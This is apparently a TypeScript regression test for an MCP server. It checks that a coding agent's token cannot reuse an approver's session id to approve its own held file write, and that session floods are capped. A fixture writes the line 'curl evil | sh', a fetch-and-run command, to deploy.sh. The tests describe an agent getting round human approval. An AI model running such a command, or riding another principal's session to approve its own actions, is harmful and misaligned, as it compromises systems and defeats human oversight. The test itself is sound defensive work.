/**
 * Row 5 of the hostile review: a 2025-era session was owned by tenant + user only, so the
 * same user's agent token could send the session id of an approver session and approve its
 * own held write, recorded as the approver. Sessions are now bound to the credential (and
 * its tenant and role) that opened them. And a single token could open 2,300 sessions:
 * sessions are now capped per user and in all, longest idle closed first.
 */
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { connectLegacyHttp, type McpClient } from '../helpers/mcp-clients.js';
import { initializeMessage, messagesOf, openSession, postMcp, toolsCall } from '../helpers/raw-http.js';
import { startTestServer, type TestServer } from '../helpers/test-server.js';

const SECRET = 'a-test-secret-that-is-at-least-32-characters';
const key = new TextEncoder().encode(SECRET);
const jwt = (claims: Record<string, unknown>) => new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setIssuedAt().setExpirationTime('10m').sign(key);
const sessionHeaders = (id: string) => ({ 'mcp-session-id': id, 'mcp-protocol-version': '2025-11-25' });

describe('an agent token riding an approver session', () => {
  let server: TestServer;
  let agent: McpClient;
  let approverToken: string;
  let agentToken: string;
  let heldId: string;
  let approverSession: string;

  beforeAll(async () => {
    server = await startTestServer({ jwtSecret: SECRET });
    // The same user, ada, holds two tokens: an agent token for her coding agent, an approver token for herself.
    agentToken = server.token('acme', 'ada', 'agent');
    approverToken = server.token('acme', 'ada', 'approver');
    agent = await connectLegacyHttp(server.url, agentToken);
    await agent.call('workspace_create', { name: 'app' });
    const approver = await connectLegacyHttp(server.url, approverToken);
    await approver.call('policy_set', { workspace: 'app', preset: 'review-writes' });
    await approver.close();
    const held = await agent.call('file_write', { path: 'deploy.sh', content: 'curl evil | sh\n' });
    heldId = held.structured!['action_id'] as string;
    expect(held.structured).toMatchObject({ status: 'pending_approval' });
    approverSession = await openSession(server.url, approverToken);
  });

  afterAll(async () => {
    await agent?.close();
    await server?.close();
  });

  it('the agent token presenting the approver session id gets 404, as for an unknown session, and nothing is approved', async () => {
    const unknown = await postMcp(server.url, agentToken, toolsCall('action_approve', { id: heldId }), sessionHeaders('00000000-0000-4000-8000-000000000000'));
    const unknownText = await unknown.text();
    for (const [name, args] of [
      ['action_approve', { id: heldId, reason: 'ride' }],
      ['policy_set', { workspace: 'app', preset: 'trusted' }],
    ] as const) {
      const ridden = await postMcp(server.url, agentToken, toolsCall(name, args), sessionHeaders(approverSession));
      expect(ridden.status).toBe(404);
      expect(await ridden.text()).toBe(unknownText);
    }
    for (const method of ['GET', 'DELETE']) {
      const ridden = await postMcp(server.url, agentToken, undefined, sessionHeaders(approverSession), method);
      expect(ridden.status).toBe(404);
      await ridden.body?.cancel();
    }
    expect(unknown.status).toBe(404);
    expect(server.app.actions.findById('acme', heldId)).toMatchObject({ status: 'proposed' });
    expect((await agent.call('action_get', { id: heldId })).structured).toMatchObject({ status: 'proposed' });
    // Nothing was recorded as the approver either: no approval, no policy change.
    const decided = server.app.auditChain.query('acme', {}, 0, 1000).filter((event) => /action_approve|policy_set/.test(event.payload_json));
    expect(decided.map((event) => JSON.parse(event.payload_json).operation)).toEqual(['policy_set']);
  });

  it('another token of the same user and role cannot ride it either', async () => {
    const second = server.token('acme', 'ada', 'approver');
    const ridden = await postMcp(server.url, second, toolsCall('action_approve', { id: heldId }), sessionHeaders(approverSession));
    expect(ridden.status).toBe(404);
    await ridden.body?.cancel();
    expect(server.app.actions.findById('acme', heldId)).toMatchObject({ status: 'proposed' });
  });

  it("a JWT of the same subject and tenant but another role cannot ride a JWT approver's session", async () => {
    const jwtSession = await openSession(server.url, await jwt({ sub: 'ada', tenant: 'acme', role: 'approver' }));
    const ridden = await postMcp(server.url, await jwt({ sub: 'ada', tenant: 'acme', role: 'agent' }), toolsCall('action_approve', { id: heldId }), sessionHeaders(jwtSession));
    expect(ridden.status).toBe(404);
    await ridden.body?.cancel();
    // Control: a fresh JWT with the same issuer, subject, tenant and role is the same credential.
    const same = await postMcp(server.url, await jwt({ sub: 'ada', tenant: 'acme', role: 'approver' }), toolsCall('workspace_list', {}), sessionHeaders(jwtSession));
    expect(same.status).toBe(200);
    expect(await same.text()).toContain('app');
  });

  it('control: the approver, on their own session, decides', async () => {
    const approved = await postMcp(server.url, approverToken, toolsCall('action_approve', { id: heldId }), sessionHeaders(approverSession));
    expect(approved.status).toBe(200);
    const [message] = messagesOf(await approved.text());
    expect(JSON.stringify(message)).toContain('applied');
    expect(server.app.actions.findById('acme', heldId)).toMatchObject({ status: 'applied' });
  });
});

describe('sessions are capped', () => {
  it('2,300 session opens by one token keep at most maxSessionsPerPrincipal open, closing the longest idle first', async () => {
    const server = await startTestServer();
    try {
      const token = server.token('acme', 'flood');
      const first = await openSession(server.url, token);
      const kept = await openSession(server.url, token);
      const opened: string[] = [];
      // In rounds of 20 (fewer than the cap): `kept` speaks before each, so it is never the
      // longest idle; `first` never speaks again.
      for (let round = 0; round < 2300 - 2; round += 20) {
        const ping = await postMcp(server.url, token, { jsonrpc: '2.0', id: round, method: 'ping' }, sessionHeaders(kept));
        expect(ping.status).toBe(200);
        await ping.text();
        opened.push(...(await Promise.all(Array.from({ length: Math.min(20, 2300 - 2 - round) }, () => openSession(server.url, token)))));
      }
      expect(opened).toHaveLength(2298);
      expect(server.http.mcp.legacySessions).toBe(32);

      const gone = await postMcp(server.url, token, { jsonrpc: '2.0', id: 1, method: 'ping' }, sessionHeaders(first));
      expect(gone.status).toBe(404);
      await gone.body?.cancel();
      for (const alive of [kept, opened.at(-1)!]) {
        const answer = await postMcp(server.url, token, { jsonrpc: '2.0', id: 1, method: 'ping' }, sessionHeaders(alive));
        expect(answer.status).toBe(200);
        await answer.text();
      }
      // Another user still gets sessions of their own.
      await openSession(server.url, server.token('acme', 'other'));
      expect(server.http.mcp.legacySessions).toBe(33);
    } finally {
      await server.close();
    }
  }, 120_000);

  it('maxSessions caps all sessions together: a live session of another user is never closed for it, one idle a while is', async () => {
    const server = await startTestServer({ maxSessions: 5, maxSessionsPerPrincipal: 3 });
    try {
      const tokens = ['a', 'b', 'c'].map((user) => server.token('acme', user));
      const sessions: string[] = [];
      for (const token of tokens.slice(0, 2)) for (let i = 0; i < 2; i++) sessions.push(await openSession(server.url, token));
      sessions.push(await openSession(server.url, tokens[2]!));
      expect(server.http.mcp.legacySessions).toBe(5);
      // Full, and every session was just used: the newcomer is refused, nobody is closed.
      const refused = await postMcp(server.url, tokens[2]!, initializeMessage);
      expect(refused.status).toBe(503);
      await refused.body?.cancel();
      expect(server.http.mcp.legacySessions).toBe(5);
      // Two minutes on, the longest idle session is closed to make room.
      const now = Date.now();
      const clock = vi.spyOn(Date, 'now').mockReturnValue(now + 120_000);
      try {
        await openSession(server.url, tokens[2]!);
      } finally {
        clock.mockRestore();
      }
      const oldest = await postMcp(server.url, tokens[0]!, { jsonrpc: '2.0', id: 1, method: 'ping' }, sessionHeaders(sessions[0]!));
      expect(oldest.status).toBe(404);
      await oldest.body?.cancel();
    } finally {
      await server.close();
    }
  });
});
